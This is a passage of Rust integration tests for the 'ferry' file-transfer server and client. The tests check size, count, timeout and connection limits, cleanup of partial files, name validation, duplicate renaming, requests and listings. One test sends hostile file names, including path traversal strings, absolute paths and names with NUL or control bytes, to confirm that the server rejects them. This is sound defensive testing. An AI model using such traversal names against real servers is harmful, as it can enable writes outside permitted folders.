    assert_eq!(j["files"][0]["stored_as"], "first.bin", "{j}");
    assert_eq!(visible(dir.path()), vec![("first.bin".into(), sha(&first))]);
    assert_temporaries_go(dir.path());
}

#[test]
fn t20_too_many_files_is_refused_before_any_entry_is_read() {
    let dir = TempDir::new("tej-t20");
    let s = serve(dir.path(), &["--max-files", "3"]);
    // N = 4 with only the count sent: the answer must not wait for the entries.
    let mut c = connect(&s);
    let mut req = vec![0x80, 1];
    req.extend_from_slice(&4u64.to_be_bytes());
    c.write_all(&req).unwrap();
    expect_error_and_close(&mut c, "too-many-files");
    // N = 2^64-1.
    let mut c = connect(&s);
    let mut req = vec![0x80, 1];
    req.extend_from_slice(&u64::MAX.to_be_bytes());
    c.write_all(&req).unwrap();
    expect_error_and_close(&mut c, "too-many-files");
    // Exactly the limit is fine.
    let mut c = connect(&s);
    c.write_all(&frame(0, &[(b"1", b"a"), (b"2", b"b"), (b"3", b"c")], b""))
        .unwrap();
    let f = next_frame(&mut c);
    assert_eq!(f.status, 0x81);
    drop(s);

    let dir = TempDir::new("tej-t20d");
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    let mut req = vec![0x80, 1];
    req.extend_from_slice(&10_001u64.to_be_bytes());
    c.write_all(&req).unwrap();
    expect_error_and_close(&mut c, "too-many-files");
}

#[test]
fn t20_message_over_max_message_is_refused_before_it_is_read() {
    let dir = TempDir::new("tej-t20m");
    let s = serve(dir.path(), &["--max-message", "1000"]);
    let mut c = connect(&s);
    let mut ok = frame(0, &[], &[b'm'; 1000]);
    c.write_all(&ok).unwrap();
    expect_ack(&mut c, &ack_json(&[], 1000));
    // M = 1001 with no message bytes sent.
    ok.truncate(10);
    ok.extend_from_slice(&1001u64.to_be_bytes());
    c.write_all(&ok).unwrap();
    expect_error_and_close(&mut c, "too-large");
    drop(s);

    // Default 16 MiB: M = 16 MiB + 1 is refused with nothing sent after it.
    let dir = TempDir::new("tej-t20m2");
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    let mut req = vec![0x80, 1];
    req.extend_from_slice(&0u64.to_be_bytes());
    req.extend_from_slice(&((16u64 << 20) + 1).to_be_bytes());
    c.write_all(&req).unwrap();
    expect_error_and_close(&mut c, "too-large");
}

#[test]
fn t20_file_over_max_file_size_is_refused_before_it_is_written() {
    let dir = TempDir::new("tej-t20f");
    let s = serve(dir.path(), &["--max-file-size", "1000"]);
    let mut c = connect(&s);
    c.write_all(&frame(0, &[(b"ok.bin", &[1u8; 1000])], b""))
        .unwrap();
    expect_ack(
        &mut c,
        &ack_json(&[("ok.bin", &[1u8; 1000], Some("ok.bin"))], 0),
    );
    c.write_all(&file_header(b"big.bin", 1001)).unwrap();
    expect_error_and_close(&mut c, "too-large");
    assert_eq!(visible(dir.path()).len(), 1);
    assert_no_temporaries(dir.path());
}

#[test]
fn t20_no_space_when_the_file_does_not_fit_the_disk_reserve() {
    let dir = TempDir::new("tej-t20n");
    // A reserve of 2^62 bytes: no disk has that much free, so any non-empty file is refused.
    let s = serve(dir.path(), &["--disk-reserve", "4611686018427387904"]);
    let mut c = connect(&s);
    c.write_all(&file_header(b"x.bin", 10)).unwrap();
    expect_error_and_close(&mut c, "no-space");
    assert!(visible(dir.path()).is_empty());
    assert_no_temporaries(dir.path());
}

#[test]
fn t25_one_byte_per_second_gets_timeout_and_the_temporary_is_deleted() {
    let dir = TempDir::new("tej-t25");
    let s = serve(dir.path(), &["--frame-timeout", "2"]);
    let mut c = connect(&s);
    // 1 MiB of a 2 MiB file arrives at once (so its temporary is on disk), then a byte a second.
    let mut req = file_header(b"slow.bin", 2 << 20);
    req.extend_from_slice(&pseudo_random(2501, 1 << 20));
    c.write_all(&req).unwrap();
    wait_for_temporary(dir.path(), 1 << 20);
    let (tx, rx) = mpsc::channel::<()>();
    let mut w = c.try_clone().unwrap();
    let dribble = std::thread::spawn(move || {
        for _ in 0..20 {
            if w.write_all(b"s").is_err() || rx.try_recv().is_ok() {
                return;
            }
            std::thread::sleep(Duration::from_secs(1));
        }
    });
    let t0 = Instant::now();
    expect_error_and_close(&mut c, "timeout");
    let took = t0.elapsed();
    let _ = tx.send(());
    dribble.join().unwrap();
    assert!(
        took < Duration::from_secs(8),
        "stall rule (2 s) fired after {took:?}"
    );
    assert!(visible(dir.path()).is_empty());
    assert!(wait_for(Duration::from_secs(2), || {
        std::fs::read_dir(ingest_dir(dir.path()))
            .map(|r| r.count() == 0)
            .unwrap_or(true)
    }));
    assert_no_temporaries(dir.path());
}

#[test]
fn t27_connection_over_the_limit_gets_busy_at_once() {
    let dir = TempDir::new("tej-t27");
    let s = serve(dir.path(), &["--max-connections", "2", "--max-per-ip", "2"]);
    let mut a = connect(&s);
    let mut b = connect(&s);
    // Both are really being served (each gets its ack) and stay idle.
    a.write_all(&unhex(EMPTY)).unwrap();
    b.write_all(&unhex(EMPTY)).unwrap();
    expect_ack(&mut a, &ack_json(&[], 0));
    expect_ack(&mut b, &ack_json(&[], 0));
    let mut c = connect(&s);
    c.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
    let t0 = Instant::now();
    expect_error_and_close(&mut c, "busy");
    assert!(t0.elapsed() < Duration::from_secs(3));
    // The two served connections are unaffected; once one closes, a new one is served.
    a.write_all(&unhex(MESSAGE_HELLO)).unwrap();
    expect_ack(&mut a, &ack_json(&[], 5));
    drop(b);
    assert!(
        wait_for(Duration::from_secs(5), || {
            let mut d = connect(&s);
            d.write_all(&unhex(EMPTY)).unwrap();
            matches!(read_frame(&mut d), Ok(f) if f.status == 0x81)
        }),
        "no connection served after one of the two closed"
    );
}

// ---------------------------------------------------------------------------------------------
// T21, T28: truncation and killed senders

#[test]
fn t21_eof_inside_the_second_file_keeps_the_first_and_leaves_no_partial_file() {
    let dir = TempDir::new("tej-t21");
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    // The second file is large enough to be on disk before the sender stops (issue 16: a
    // temporary kept in memory could not leak).
    let second = pseudo_random(211, 4 << 20);
    let whole = frame(0, &[(b"first.txt", b"1st"), (b"second.bin", &second)], b"");
    c.write_all(&whole[..whole.len() - 8 - (1 << 20)]).unwrap();
    wait_for_temporary(dir.path(), 2 << 20);
    c.shutdown(Shutdown::Write).unwrap();
    // Best effort `truncated` (the peer may be gone), then a close.
    match read_frame(&mut c) {
        Ok(f) => {
            assert_error(&f, "truncated");
            expect_closed(&mut c);
        }
        Err(End::Eof) | Err(End::Reset(_)) => {}
        Err(e) => panic!("expected truncated or a close, got {e:?}"),
    }
    assert!(wait_for(Duration::from_secs(5), || visible(dir.path())
        == vec![("first.txt".to_string(), sha(b"1st"))]));
    assert_temporaries_go(dir.path());
    // Server keeps serving.
    let mut c = connect(&s);
    c.write_all(&unhex(MESSAGE_HELLO)).unwrap();
    expect_ack(&mut c, &ack_json(&[], 5));
}

#[test]
fn t28_ferry_sender_killed_mid_file_leaves_no_partial_file_and_server_keeps_serving() {
    let dir = TempDir::new("tej-t28");
    let src = TempDir::new("tej-t28src");
    let s = serve(dir.path(), &[]);
    let addr = s.addr("tej");
    let path = src.join("big.bin");
    big_file(&path, 281, 1 << 30);
    let mut sender = Proc::spawn(
        FERRY,
        &["tej", "send", "--addr", &addr, path.to_str().unwrap()],
    );
    // Kill it once the server has a temporary with data in it.
    let ing = ingest_dir(dir.path());
    let started = wait_for(Duration::from_secs(30), || {
        std::fs::read_dir(&ing)
            .map(|r| {
                r.filter_map(Result::ok)
                    .any(|e| e.metadata().map(|m| m.len() > 0).unwrap_or(false))
            })
            .unwrap_or(false)
    });
    assert!(started, "no temporary with data appeared in {ing:?}");
    sender.child.kill().unwrap();
    sender.wait(Duration::from_secs(10));
    assert!(
        wait_for(Duration::from_secs(10), || std::fs::read_dir(&ing)
            .map(|r| r.count() == 0)
            .unwrap_or(true)),
        "temporary not deleted after the sender was killed"
    );
    assert!(visible(dir.path()).is_empty());
    let mut c = connect(&s);
    c.write_all(&unhex(FILE_ONLY)).unwrap();
    expect_ack(&mut c, &ack_json(&[("a.txt", b"AAAA", Some("a.txt"))], 0));
}

// ---------------------------------------------------------------------------------------------
// T22, T23, T24: names

#[test]
fn t22_t23_bad_names_are_skipped_with_bad_name_entries_and_the_connection_stays_open() {
    let root = TempDir::new("tej-t22");
    let dir = root.join("share");
    std::fs::create_dir(&dir).unwrap();
    let s = serve(&dir, &[]);
    let long255 = "n".repeat(251) + ".txt";
    let long256 = "n".repeat(252) + ".txt";
    let bad: Vec<&[u8]> = vec![
        b"\xff\xfe",
        b"",
        b"../../x",
        b"/x",
        b"a/b",
        b"..\\x",
        b"a\x00b",
        b".",
        b"..",
        b".ferry",
        b".FeRrY",
        b"tab\x09x",
        b"del\x7fx",
        "c1\u{85}x".as_bytes(),
        long256.as_bytes(),
        b"../share-x",
    ];
    let mut files: Vec<(&[u8], &[u8])> = vec![(b"good1.txt", b"good one")];
    for (i, n) in bad.iter().enumerate() {
        files.push((n, [b"bad".as_slice(), &[i as u8]].concat().leak()));
    }
    files.push((long255.as_bytes(), b"long"));
    files.push(("é ü.txt".as_bytes(), b"utf8"));
    files.push((b"good2.txt", b"good two"));
    let mut c = connect(&s);
    c.write_all(&frame(0, &files, b"")).unwrap();
    let f = next_frame(&mut c);
    assert_eq!(f.status, 0x81, "{:?}", String::from_utf8_lossy(&f.msg));
    let j = f.json();
    let entries = j["files"].as_array().expect("files array");
    assert_eq!(entries.len(), files.len(), "{j}");
    for (k, ((name, data), e)) in files.iter().zip(entries).enumerate() {
        assert_eq!(e["size"], data.len(), "entry {k}: {e}");
        assert_eq!(e["sha256"], sha(data), "entry {k}: {e}");
        let is_bad = k >= 1 && k <= bad.len();
        if is_bad {
            assert_eq!(e["stored_as"], Value::Null, "entry {k} ({name:?}): {e}");
            assert_eq!(e["error"], "bad-name", "entry {k} ({name:?}): {e}");
        } else {
            let n = std::str::from_utf8(name).unwrap();
            assert_eq!(e["name"], n, "entry {k}: {e}");
            assert_eq!(e["stored_as"], n, "entry {k}: {e}");
            assert!(e.get("error").is_none(), "entry {k}: {e}");
        }
    }
    // A non-UTF-8 name: U+FFFD replacements plus its hex.
    assert_eq!(entries[1]["name_hex"], "fffe", "{}", entries[1]);
    assert_eq!(entries[1]["name"], "\u{fffd}\u{fffd}", "{}", entries[1]);
    // Connection open; nothing outside the incoming area.
    c.write_all(&unhex(MESSAGE_HELLO)).unwrap();
    expect_ack(&mut c, &ack_json(&[], 5));
    let mut want = vec![
        ("good1.txt".to_string(), sha(b"good one")),
        ("good2.txt".to_string(), sha(b"good two")),
        (long255.clone(), sha(b"long")),
        ("é ü.txt".to_string(), sha(b"utf8")),
    ];
    want.sort();
    assert_eq!(visible(&dir), want);
    let outside: Vec<_> = std::fs::read_dir(root.path())
        .unwrap()
        .filter_map(Result::ok)
        .map(|e| e.file_name())
        .collect();
    assert_eq!(outside, vec![std::ffi::OsString::from("share")]);
    assert!(!Path::new("/x").exists() && !root.path().parent().unwrap().join("x").exists());
    // Nothing hidden got written under a bad name either.
    let hidden: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.') && n != ".ferry")
        .collect();
    assert!(hidden.is_empty(), "{hidden:?}");
}

#[test]
fn t22_empty_name_vector_is_a_bad_name_and_the_frame_is_acknowledged() {
    let dir = TempDir::new("tej-t22e");
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    c.write_all(&unhex(EMPTY_NAME)).unwrap();
    let want = format!(
        "{{\"files\":[{{\"name\":\"\",\"size\":4,\"sha256\":\"{}\",\"stored_as\":null,\"error\":\"bad-name\"}}],\"message_bytes\":0}}",
        sha(b"data")
    );
    expect_ack(&mut c, &want);
    assert!(visible(dir.path()).is_empty());
}

#[test]
fn t24_same_name_different_content_gets_the_next_dash_n_name_and_identical_is_not_stored_twice() {
    let dir = TempDir::new("tej-t24");
    std::fs::write(dir.join("doc.txt"), b"version A").unwrap();
    std::fs::write(dir.join("noext"), b"plain A").unwrap();
    std::fs::write(dir.join("arc.tar.gz"), b"gz A").unwrap();
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    let mut send = |name: &str, data: &[u8], stored: &str| {
        c.write_all(&frame(0, &[(name.as_bytes(), data)], b""))
            .unwrap();
        expect_ack(&mut c, &ack_json(&[(name, data, Some(stored))], 0));
    };
    send("doc.txt", b"version B", "doc-1.txt");
    send("doc.txt", b"version C", "doc-2.txt");
    send("doc.txt", b"version A", "doc.txt");
    send("doc.txt", b"version B", "doc-1.txt");
    send("noext", b"plain B", "noext-1");
    send("arc.tar.gz", b"gz B", "arc.tar-1.gz");
    let want = vec![
        ("arc.tar-1.gz".to_string(), sha(b"gz B")),
        ("arc.tar.gz".to_string(), sha(b"gz A")),
        ("doc-1.txt".to_string(), sha(b"version B")),
        ("doc-2.txt".to_string(), sha(b"version C")),
        ("doc.txt".to_string(), sha(b"version A")),
        ("noext".to_string(), sha(b"plain A")),
        ("noext-1".to_string(), sha(b"plain B")),
    ];
    assert_eq!(visible(dir.path()), want);
    // Two files of one frame with the same name and different content.
    c.write_all(&frame(
        0,
        &[(b"twin.txt", b"t1"), (b"twin.txt", b"t2")],
        b"",
    ))
    .unwrap();
    expect_ack(
        &mut c,
        &ack_json(
            &[
                ("twin.txt", b"t1", Some("twin.txt")),
                ("twin.txt", b"t2", Some("twin-1.txt")),
            ],
            0,
        ),
    );
}

// ---------------------------------------------------------------------------------------------
// T14, T15: requests and listings

#[test]
fn t14_request_vector_gets_exactly_the_answer_vector() {
    let dir = TempDir::new("tej-t14v");
    std::fs::write(dir.join("a.txt"), b"AAAA").unwrap();
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    c.write_all(&unhex(FERRY_REQUEST_GET)).unwrap();
    let f = next_frame(&mut c);
    let mut raw = frame(
        f.status & 0x7f,
        &f.files
            .iter()
            .map(|(n, d)| (n.as_slice(), d.as_slice()))
            .collect::<Vec<_>>(),
        &f.msg,
    );
    raw[0] = f.status;
    raw[1] = f.version;
    assert_eq!(spaced(&raw), FERRY_REQUEST_ANSWER);
    // And the list request vector gets the listing vector.
    c.write_all(&unhex(FERRY_LIST_REQUEST)).unwrap();
    let f = next_frame(&mut c);
    let mut raw = frame(f.status & 0x7f, &[], &f.msg);
    raw[0] = f.status;
    raw[1] = f.version;
    assert_eq!(spaced(&raw), FERRY_LISTING);
}

#[test]
fn t14_request_is_answered_in_request_order_and_not_found_lists_every_missing_item() {
    let dir = TempDir::new("tej-t14");
    let a = pseudo_random(141, 5000);
    let b = pseudo_random(143, 70_000);
    std::fs::write(dir.join("a.bin"), &a).unwrap();
    std::fs::write(dir.join("b.bin"), &b).unwrap();
    // The catalog is flat (catalog::scan reads the root only): a file in a subfolder is not in it.
    std::fs::create_dir(dir.join("sub")).unwrap();
    std::fs::write(dir.join("sub").join("deep.bin"), b"deep").unwrap();
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    // By name and by SHA-256, repeats served again, in request order.
    let req = json!({"get": ["b.bin", sha(&a), "b.bin"]}).to_string();
    c.write_all(&frame(4, &[], req.as_bytes())).unwrap();
    let f = next_frame(&mut c);
    assert_eq!(f.status, 0x80, "{:?}", String::from_utf8_lossy(&f.msg));
    let names: Vec<&[u8]> = f.files.iter().map(|(n, _)| n.as_slice()).collect();
    assert_eq!(names, vec![&b"b.bin"[..], b"a.bin", b"b.bin"]);
    assert!(f.files[0].1 == b && f.files[1].1 == a && f.files[2].1 == b);
    let manifest = format!(
        "{{\"files\":[{{\"name\":\"b.bin\",\"size\":{},\"sha256\":\"{}\"}},{{\"name\":\"a.bin\",\"size\":{},\"sha256\":\"{}\"}},{{\"name\":\"b.bin\",\"size\":{},\"sha256\":\"{}\"}}]}}",
        b.len(),
        sha(&b),
        a.len(),
        sha(&a),
        b.len(),
        sha(&b)
    );
    assert_eq!(String::from_utf8_lossy(&f.msg), manifest);
    // Missing items: one not-found naming all of them, connection open.
    let req = json!({"get": ["nope-1", "a.bin", "0".repeat(64), "sub/deep.bin", "../a.bin", "deep.bin", "nope-2"]})
        .to_string();
    c.write_all(&frame(4, &[], req.as_bytes())).unwrap();
    let f = next_frame(&mut c);
    let j = assert_error(&f, "not-found");
    assert_eq!(
        j["missing"],
        json!([
            "nope-1",
            "0".repeat(64),
            "sub/deep.bin",
            "../a.bin",
            "deep.bin",
            "nope-2"
        ])
    );
    // Bad requests keep the connection open too.
    c.write_all(&frame(4, &[], b"{\"get\":\"a.bin\"}")).unwrap();
    assert_error(&next_frame(&mut c), "bad-request");
    c.write_all(&frame(4, &[], b"not json")).unwrap();
    assert_error(&next_frame(&mut c), "bad-request");
    c.write_all(&frame(5, &[], b"{\"after\":7}")).unwrap();
    assert_error(&next_frame(&mut c), "bad-request");
    // (`ambiguous` cannot happen with a flat catalog: a name is its own catalog path.)
    c.write_all(&unhex(FERRY_LIST_REQUEST)).unwrap();
    assert_eq!(next_frame(&mut c).status, 0x86);
}

#[test]
fn t15_listing_pages_visit_every_entry_once_in_path_order() {
    let dir = TempDir::new("tej-t15");
    let mut want = Vec::new();
    for k in 0..25u64 {
        let name = format!("f{:02}-{}.dat", (k * 7) % 25, k);
        let data = pseudo_random(1501 + 2 * k, 100 + k as usize);
        std::fs::write(dir.join(&name), &data).unwrap();
        want.push(json!({"name": name, "size": data.len(), "sha256": sha(&data)}));
    }
    want.sort_by(|a, b| a["name"].as_str().cmp(&b["name"].as_str()));
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    let mut seen = Vec::new();
    let mut after: Option<String> = None;
    let mut pages = 0;
    loop {
        let req = match &after {
            None => json!({"limit": 10}),
            Some(a) => json!({"after": a, "limit": 10}),
        };
        c.write_all(&frame(5, &[], req.to_string().as_bytes()))
            .unwrap();
        let f = next_frame(&mut c);
        assert_eq!(f.status, 0x86, "{:?}", String::from_utf8_lossy(&f.msg));
        let j = f.json();
        let page = j["files"].as_array().unwrap().clone();
        assert!(page.len() <= 10);
        pages += 1;
        assert!(pages <= 4, "too many pages");
        seen.extend(page.iter().cloned());
        match &j["next"] {
            Value::Null => {
                assert!(page.len() < 10 || seen.len() == want.len());
                break;
            }
            Value::String(n) => {
                assert_eq!(page.len(), 10, "next on a page that is not full: {j}");
                assert_eq!(page.last().unwrap()["name"], *n);
                after = Some(n.clone());
            }
            other => panic!("next = {other}"),
        }
    }
    assert_eq!(seen, want);
    // `ferry tej list` shows the same entries.
    let o = ferry(&["tej", "list", "--addr", &s.addr("tej"), "--json"], S);
    assert_eq!(code(&o), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(stdout_json(&o), Value::Array(want));
}

// ---------------------------------------------------------------------------------------------
// T26, T29

#[test]
fn t26_100_concurrent_senders_each_get_their_own_ack() {
    let dir = TempDir::new("tej-t26");
    let s = serve(
        dir.path(),
        &["--max-connections", "128", "--max-per-ip", "128"],
    );
    let addr = s.addr("tej");
    let threads: Vec<_> = (0..100u64)
        .map(|k| {
            let addr = addr.clone();
            std::thread::spawn(move || {
                let data = pseudo_random(2601 + 2 * k, 20_000 + k as usize);
                let name = format!("c{k:03}.bin");
                let mut c = connect_to(&addr);
                c.write_all(&frame(0, &[(name.as_bytes(), &data)], b""))
                    .unwrap();
                expect_ack(&mut c, &ack_json(&[(&name, &data, Some(&name))], 0));
                (name, sha(&data))
            })
        })
        .collect();
    let mut want: Vec<_> = threads.into_iter().map(|t| t.join().unwrap()).collect();
    want.sort();
    assert_eq!(visible(dir.path()), want);
}

#[test]
fn t29_a_second_server_on_the_same_port_fails_with_exit_2() {
    let dir = TempDir::new("tej-t29");
    let s = serve(dir.path(), &[]);
    let addr = s.addr("tej");
    let o = ferry(
        &[
            "tej",
            "serve",
            "--bind",
            &addr,
            "--root",
            dir.path().to_str().unwrap(),
        ],
        Duration::from_secs(20),
    );
    assert_eq!(
        code(&o),
        Some(2),
        "second server: stdout {:?} stderr {:?}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    // The first still serves every connection.
    for _ in 0..5 {
        let mut c = connect(&s);
        c.write_all(&unhex(EMPTY)).unwrap();
        expect_ack(&mut c, &ack_json(&[], 0));
    }
}

// ---------------------------------------------------------------------------------------------
// ferry client: send, get, list against ferry and fakes (T11, T18, T31)

#[test]
fn t8_ferry_send_to_ferry_serve_is_confirmed_and_stored() {
    let dir = TempDir::new("tej-send");
    let src = TempDir::new("tej-sendsrc");
    let a = pseudo_random(301, 123_456);
    std::fs::write(src.join("one.bin"), &a).unwrap();
    std::fs::write(src.join("two.txt"), b"two").unwrap();
    let s = serve(dir.path(), &[]);
    let o = ferry(
        &[
            "tej",
            "send",
            "--addr",
            &s.addr("tej"),
            src.join("one.bin").to_str().unwrap(),
            src.join("two.txt").to_str().unwrap(),
            "--message",
            "hi there",
            "--json",
        ],
        S,
    );
    assert_eq!(code(&o), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let j = stdout_json(&o);
    assert_eq!(j["outcome"], "confirmed");
    assert_eq!(
        j["files"],
        json!([
            {"name": "one.bin", "size": a.len(), "sha256": sha(&a)},
            {"name": "two.txt", "size": 3, "sha256": sha(b"two")}
        ])
    );
    assert_eq!(j["reply"]["message_bytes"], 8);
    assert_eq!(j["reply"]["files"][0]["stored_as"], "one.bin");
    assert!(j["bytes"].as_u64().unwrap() >= a.len() as u64 + 3);
    assert!(j["seconds"].is_number());
    assert_eq!(
        visible(dir.path()),
        vec![
            ("one.bin".to_string(), sha(&a)),
            ("two.txt".to_string(), sha(b"two"))
        ]
    );
    // A status over 127 is a usage error.
    let o = ferry(
        &[
            "tej",
            "send",
            "--addr",
            &s.addr("tej"),
            "--status",
            "200",
            src.join("two.txt").to_str().unwrap(),
        ],
        S,
    );
    assert_eq!(code(&o), Some(2));
    // Nothing listening: network error.
    let free = TcpListener::bind("127.0.0.1:0").unwrap();
    let dead = free.local_addr().unwrap().to_string();
    drop(free);
    let o = ferry(
        &[
            "tej",
            "send",
            "--addr",
            &dead,
            src.join("two.txt").to_str().unwrap(),
        ],
        S,
    );
    assert_eq!(code(&o), Some(3));
}

#[test]
fn t11_ferry_send_gets_exit_4_on_an_error_frame() {
    let dir = TempDir::new("tej-t11e");
    let src = TempDir::new("tej-t11esrc");
    std::fs::write(src.join("big.bin"), pseudo_random(111, 5000)).unwrap();
    let s = serve(dir.path(), &["--max-file-size", "1000"]);
    let o = ferry(
        &[
            "tej",
            "send",
            "--addr",
            &s.addr("tej"),
            src.join("big.bin").to_str().unwrap(),
            "--json",
        ],
        S,
    );
    assert_eq!(code(&o), Some(4), "{}", String::from_utf8_lossy(&o.stderr));
    let j = stdout_json(&o);
    assert_eq!(j["outcome"], "refused");
    assert_eq!(j["reply"]["error"], "too-large");
}

/// A fake TEJ peer: accepts one connection, reads one frame, then runs `answer` on the socket.
fn fake_peer(
    answer: impl FnOnce(&mut TcpStream, Frame) + Send + 'static,
) -> (String, std::thread::JoinHandle<()>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = l.local_addr().unwrap().to_string();
    let h = std::thread::spawn(move || {
        l.set_nonblocking(true).unwrap();
        let deadline = Instant::now() + S;
        let mut c = loop {
            match l.accept() {
                Ok((c, _)) => break c,
                Err(_) if Instant::now() < deadline => {
                    std::thread::sleep(Duration::from_millis(10))
                }
                Err(e) => panic!("fake peer: no connection: {e}"),
            }
        };
        c.set_nonblocking(false).unwrap();
        c.set_read_timeout(Some(T)).unwrap();
        c.set_write_timeout(Some(T)).unwrap();
        let f = read_frame(&mut c).expect("fake peer: a frame");
        answer(&mut c, f);
    });
    (addr, h)
}

#[test]
fn t11_ferry_send_waits_past_greetings_for_the_summary_and_checks_it() {
    let src = TempDir::new("tej-t11g");
    let data = pseudo_random(113, 4000);
    std::fs::write(src.join("g.bin"), &data).unwrap();
    let sum = sha(&data);
    let (addr, h) = fake_peer(move |c, f| {
        assert_eq!(f.status, 0x80);
        assert_eq!(f.files.len(), 1);
        // A greeting (status 1, `Test 123`, as the Rust crate's example server sends), an
        // application frame, a ping, then a plain status-0 summary without `stored_as`.
        c.write_all(&frame(1, &[], b"Test 123")).unwrap();
        c.write_all(&frame(9, &[(b"x", b"y")], b"app")).unwrap();
        c.write_all(&unhex(PING)).unwrap();
        let m =
            format!("{{\"files\":[{{\"name\":\"g.bin\",\"size\":4000,\"sha256\":\"{sum}\"}}]}}");
        c.write_all(&frame(0, &[], m.as_bytes())).unwrap();
        let _ = read_frame(c);
    });
    let o = ferry(
        &[
            "tej",
            "send",
            "--addr",
            &addr,
            src.join("g.bin").to_str().unwrap(),
            "--json",
        ],
        S,
    );
    h.join().unwrap();
    assert_eq!(code(&o), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(stdout_json(&o)["outcome"], "confirmed");

    // A summary whose size is wrong is a mismatch, and so is one with `stored_as: null`.
    for reply in [
        format!("{{\"files\":[{{\"name\":\"g.bin\",\"size\":3999,\"sha256\":\"{}\"}}]}}", sha(&data)),
        format!(
            "{{\"files\":[{{\"name\":\"g.bin\",\"size\":4000,\"sha256\":\"{}\",\"stored_as\":null,\"error\":\"bad-name\"}}],\"message_bytes\":0}}",
            sha(&data)
        ),
    ] {
        let r = reply.clone();
        let (addr, h) = fake_peer(move |c, _| {
            c.write_all(&frame(1, &[], r.as_bytes())).unwrap();
            let _ = read_frame(c);
        });
        let o = ferry(
            &[
                "tej",
                "send",
                "--addr",
                &addr,
                src.join("g.bin").to_str().unwrap(),
                "--json",
            ],
            S,
        );
        h.join().unwrap();
        assert_eq!(code(&o), Some(4), "reply {reply}: {}", String::from_utf8_lossy(&o.stderr));
        assert_eq!(stdout_json(&o)["outcome"], "mismatch", "reply {reply}");
    }

    // `{"files":[]}` does not give an entry per file sent: not an acknowledgement, so waiting
    // goes on until `--ack-timeout`.
    let (addr, h) = fake_peer(move |c, _| {
        c.write_all(&frame(1, &[], b"{\"files\":[]}")).unwrap();
        let _ = read_frame(c);
    });
    let o = ferry(
        &[
            "tej",
            "send",
            "--addr",
            &addr,
            "--ack-timeout",
            "2",
            src.join("g.bin").to_str().unwrap(),
            "--json",
        ],
        S,
    );
    h.join().unwrap();
    assert_eq!(code(&o), Some(1), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(stdout_json(&o)["outcome"], "unconfirmed");
}

/// A fake server that answers a status-4 request with `answer` bytes, then closes.
fn fake_request_server(answer: Vec<u8>) -> (String, std::thread::JoinHandle<()>) {
    fake_peer(move |c, f| {
        assert_eq!(f.status, 0x84, "expected a request, got {f:?}");
        c.write_all(&answer).unwrap();
        let _ = c.shutdown(Shutdown::Write);
        let _ = read_frame(c);
    })
}

#[test]
fn t31_request_answer_not_matching_its_manifest_commits_nothing() {
    let good = pseudo_random(311, 10_000);
    let mut bad = good.clone();
    bad[5000] ^= 1;
    let manifest = |files: &[(&str, &[u8])]| {
        let v: Vec<Value> = files
            .iter()
            .map(|(n, d)| json!({"name": n, "size": d.len(), "sha256": sha(d)}))
            .collect();
        json!({ "files": v }).to_string()
    };
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "one byte flipped in the second file",
            frame(
                0,
                &[(b"ok.txt", b"fine"), (b"g.bin", &bad)],
                manifest(&[("ok.txt", b"fine"), ("g.bin", &good)]).as_bytes(),
            ),
        ),
        (
            "manifest lists fewer files",
            frame(
                0,
                &[(b"ok.txt", b"fine"), (b"g.bin", &good)],
                manifest(&[("ok.txt", b"fine")]).as_bytes(),
            ),
        ),
        (
            "no manifest",
            frame(0, &[(b"ok.txt", b"fine"), (b"g.bin", &good)], b""),
        ),
        ("closed before the message", {
            let mut f = frame(0, &[(b"ok.txt", b"fine"), (b"g.bin", &good)], b"");
            f.truncate(f.len() - 8);
            f
        }),
        (
            "name differs from the manifest",
            frame(
                0,
                &[(b"ok.txt", b"fine"), (b"other.bin", &good)],
                manifest(&[("ok.txt", b"fine"), ("g.bin", &good)]).as_bytes(),
            ),
        ),
    ];
    for (what, answer) in cases {
        let out = TempDir::new("tej-t31");
        let (addr, h) = fake_request_server(answer);
        let o = ferry(
            &[
                "tej",
                "get",
                "--addr",
                &addr,
                "--out",
                out.path().to_str().unwrap(),
                "ok.txt",
                "g.bin",
            ],
            S,
        );
        h.join().unwrap();
        // A truncated answer is a network failure (3); every complete answer that does not
        // match is a mismatch (4). Either way nothing may be committed.
        let want = if what == "closed before the message" {
            3
        } else {
            4
        };
        assert_eq!(
            code(&o),
            Some(want),
            "{what}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        assert!(
            visible(out.path()).is_empty(),
            "{what}: {:?}",
            visible(out.path())
        );
    }
    // The matching answer is committed.
    let out = TempDir::new("tej-t31ok");
    let (addr, h) = fake_request_server(frame(
        0,
        &[(b"ok.txt", b"fine"), (b"g.bin", &good)],
        manifest(&[("ok.txt", b"fine"), ("g.bin", &good)]).as_bytes(),
    ));
    let o = ferry(
        &[
            "tej",
            "get",
            "--addr",
            &addr,
            "--out",
            out.path().to_str().unwrap(),
            "ok.txt",
            "g.bin",
        ],
        S,
    );
    h.join().unwrap();
    assert_eq!(code(&o), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(
        visible(out.path()),
        vec![
            ("g.bin".to_string(), sha(&good)),
            ("ok.txt".to_string(), sha(b"fine"))
        ]
    );
}

#[test]
fn t14_ferry_get_and_list_against_ferry_serve() {
    let dir = TempDir::new("tej-get");
    let out = TempDir::new("tej-getout");
    let a = pseudo_random(401, 300_000);
    std::fs::write(dir.join("a.bin"), &a).unwrap();
    std::fs::write(dir.join("b.txt"), b"bee").unwrap();
    let s = serve(dir.path(), &[]);
    let addr = s.addr("tej");
